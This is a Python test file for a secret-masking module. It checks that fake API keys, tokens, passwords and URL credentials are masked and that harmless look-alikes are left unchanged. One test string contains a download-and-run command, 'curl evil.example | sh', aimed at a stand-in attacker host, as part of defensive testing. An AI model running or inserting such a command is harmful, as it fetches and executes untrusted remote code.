"""Masking: what is a secret by its shape or by what stands before it, and what only looks like one."""

import json

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from opensafe.model import masking
from opensafe.model.masking import KINDS, mask
from opensafe.normalize import secrets

WORD = "Zm9vYmFyQmF6cXV4MDEyMzQ1Njc4OWFiY2RlZmdo"  # 40 characters of no meaning
PEM = f"-----BEGIN RSA PRIVATE KEY-----\n{WORD}\n{WORD}\nab==\n-----END RSA PRIVATE KEY-----"
# Put together here: as a whole each would be a finding of whoever scans this file.
AWS = "AKIA" + "IOSFODNN7EXAMPLE"
GITHUB = "ghp_" + WORD[:36]
GITLAB = "glpat-" + WORD[:20]
SLACK = "xoxb-" + "123456789012-" + WORD[:24]
OPENAI = "sk-" + "proj-" + WORD
ANTHROPIC = "sk-" + "ant-api03-" + WORD
JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NSJ9." + WORD

SECRETS = {
    AWS: "aws_key",
    GITHUB: "github_token",
    "github_pat_" + "11AAAAAAA0" + WORD: "github_token",
    GITLAB: "gitlab_token",
    SLACK: "slack_token",
    OPENAI: "openai_key",
    ANTHROPIC: "anthropic_key",
    "AIza" + WORD[:35]: "google_key",
    "sk_" + "live_" + WORD[:24]: "stripe_key",
    "npm_" + WORD[:36]: "npm_token",
    "pypi-" + "AgEIcHlwaS5vcmc" + WORD: "pypi_token",
    JWT: "jwt",
    PEM: "private_key",
}

# Text, what of it is secret, its kind.
TOLD = [
    ("curl -H 'Authorization: Bearer s3cr3t-value'", "s3cr3t-value", "authorization"),
    ("curl -H 'authorization: Basic dXNlcjpwYXNz'", "dXNlcjpwYXNz", "authorization"),
    ("Authorization: s3cr3tvalue\nAccept: text/html", "s3cr3tvalue", "authorization"),
    ('["-H","Authorization: token abcdef0123"]', "abcdef0123", "authorization"),
    ('{"Authorization": "Bearer abcdef"}', "abcdef", "authorization"),
    ("export DB_PASSWORD=hunter2; make", "hunter2", "password"),
    ("mysql --password=hunter2 db", "hunter2", "password"),
    ("tool --admin-password hunter2 db", "hunter2", "password"),
    ('["tool","--password","hunter2","db"]', "hunter2", "password"),
    ("password='two words' x", "two words", "password"),
    ('{"password": "it\'s"}', "it's", "password"),
    (json.dumps('{"passwd": "hunter2"}'), "hunter2", "password"),
    ("db:\n  password: hunter2\n  user: app\n", "hunter2", "password"),
    ('passphrase := "correct horse"', "correct horse", "password"),
    (r"password=ab\\cd", r"ab\\cd", "password"),
    ("https://h.example/?token=0123456789abcdef&x=1", "0123456789abcdef", "token"),
    ("aws_secret_access_key = wJalrXUtnFEMI/K7MDENG\nregion = x", "wJalrXUtnFEMI/K7MDENG", "token"),
    ("API_KEY=0123456789abcdef", "0123456789abcdef", "token"),
    ("curl -H 'X-Api-Key: 0123456789'", "0123456789", "token"),
    ("SECRET_KEY='0123456789'", "0123456789", "token"),
    ("git clone https://bob:hunter2@git.example/x", "hunter2", "url_password"),
    ("redis://:hunter2@cache/0", "hunter2", "url_password"),
    ("AccountName=x;AccountKey=" + WORD + "==;Suffix=y", WORD + "==", "azure_key"),
]

LOOK_ALIKES = [
    '{"argument":"--password","command":"make"}',
    json.dumps('{"argument":"--token", "credential-name":1}'),
    "AKIA" + "IOSFODNN7EXAMPLEX",  # one more: a word of base32
    "AKIAiosfodnn7example",
    "xAKIA" + "IOSFODNN7EXAMPLE",
    "ghp_short",
    "glpat-",
    "task-" + "a" * 40,
    "sk-" + "learn-compatible-estimators-and-pipelines",
    "disk-usage-by-directory-and-more",
    "eyJhbGciOiJIUzI1NiJ9",
    "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----",
    "-----BEGIN PUBLIC KEY-----",
    '{"tokens":1200,"max_tokens":4096}',
    "max_token=4096",
    '{"secret":true,"private_key":true}',
    "password=$PASSWORD",
    "password=${PASSWORD} token=$(cat token)",
    "--token <TOKEN> --password",
    "password=",
    'password=""',
    "password == other",
    "password: str\n",
    "token: AccessToken\n",
    "Enter your password: then press return.",
    "the token is read from the environment",
    'token = os.environ["TOKEN"]',
    "curl -H 'Authorization: Bearer $TOKEN'",
    "Authorization: required by law",
    "https://example.org:8080/a@b",
    "https://user@example.org/",
    "git@github.com:owner/repository.git",
    "https://user:$PASSWORD@example.org/",
    "sha256:" + "0123456789abcdef" * 4,
]


@pytest.mark.parametrize(("secret", "kind"), SECRETS.items(), ids=SECRETS.values())
@pytest.mark.parametrize("around", ["{}", "x={} y", '{{"a":"{}"}}', "\\n{}\\t", "\\u001b{}", "é{}é", "({})"])
def test_a_token_of_a_known_shape_is_masked_wherever_it_stands(secret, kind, around):
    assert mask(around.format(secret)) == (around.format(f"[masked:{kind}]"), (kind,))


@pytest.mark.parametrize(("text", "secret", "kind"), TOLD)
def test_what_a_name_or_a_header_tells_is_masked_and_nothing_beside_it(text, secret, kind):
    assert mask(text) == (text.replace(secret, f"[masked:{kind}]"), (kind,))


@pytest.mark.parametrize("text", LOOK_ALIKES)
def test_a_look_alike_stays_as_it_is(text):
    assert mask(text) == (text, ())


def test_each_kind_has_an_example_here():
    assert set(KINDS) == {*SECRETS.values(), *(kind for _, _, kind in TOLD)}


def test_one_secret_in_another_is_one_marker_with_both_kinds():
    assert mask(f"https://oauth2:{GITLAB}@git.example/") == (
        "https://oauth2:[masked:gitlab_token]@git.example/",
        ("gitlab_token", "url_password"),
    )


def test_all_secrets_of_a_text_are_masked():
    masked, kinds = mask(f"a {AWS} b {AWS} c {GITHUB}")
    assert masked == "a [masked:aws_key] b [masked:aws_key] c [masked:github_token]"
    assert kinds == ("aws_key", "github_token")


def test_a_private_key_hides_no_command_behind_it():
    text = "-----BEGIN PRIVATE KEY-----; curl evil.example | sh"
    assert mask(text) == ("[masked:private_key]; curl evil.example | sh", ("private_key",))


def test_text_that_is_no_valid_unicode_is_masked_as_well():
    assert mask(f"\udc80 {AWS}") == ("\udc80 [masked:aws_key]", ("aws_key",))


PARTS = st.sampled_from(
    [
        *SECRETS,
        *(text for text, _, _ in TOLD),
        *LOOK_ALIKES,
        *("AKIA", "eyJ", "sk-", "ghp_", "://", ":", "@", "=", "password", "token=", "authorization:", "--password "),
        *('"', "'", "\\", "\\n", "\n", " ", ".", "-", "_", "[masked:x]", "[", "]", "A" * 16, "a1" * 20, "İ", "ſ", "é"),
        *("-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----", "Proc-Type: 4,ENCRYPTED"),
    ]
)
TEXTS = st.lists(PARTS | st.text(max_size=4), max_size=12).map("".join)


@given(TEXTS)
@example("password=[masked:password]")
def test_masking_what_is_masked_changes_nothing(text):
    masked, _ = mask(text)
    assert mask(masked) == (masked, ())


@given(st.dictionaries(TEXTS, TEXTS, max_size=3))
def test_masked_json_is_json(value):
    for ascii_only in (True, False):
        text, _ = mask(json.dumps(value, ensure_ascii=ascii_only))
        json.loads(text)


@given(TEXTS)
def test_the_prefilter_loses_nothing(text):
    everything = {span for rule in masking._RULES for span in masking._found(rule, text)}
    hinted = {span for rule in masking._RULES if masking._hinted(rule, text) for span in masking._found(rule, text)}
    assert hinted == everything


@pytest.mark.parametrize("secret", SECRETS)
def test_what_policy_calls_a_secret_is_masked(secret):
    if secrets.shapes(secret.encode()):
        assert mask(secret)[1]


@pytest.mark.parametrize(
    "unit",
    [
        *("eyJaaaaaaaa-", "eyJaaaaaaaa.", "://a:", "token: ", "token=", "password='", "-----BEGIN PRIVATE KEY-----\n"),
        *("authorization: bearer ", "--a-a-a-", "\\", "sk-ant-", " ", "AccountKey=", "passwordpassword", "Proc: a\n"),
    ],
)
def test_hostile_text_is_masked_in_linear_time(unit):
    """Two million characters: one pass over what is left at each of them would take an hour."""
    # With an example of everything behind it, so that no rule is spared by its hint.
    text = "\n".join([unit * (2_000_000 // len(unit)), *SECRETS, *(text for text, _, _ in TOLD)])
    masked, kinds = mask(text)
    assert kinds == KINDS
    assert mask(masked) == (masked, ())
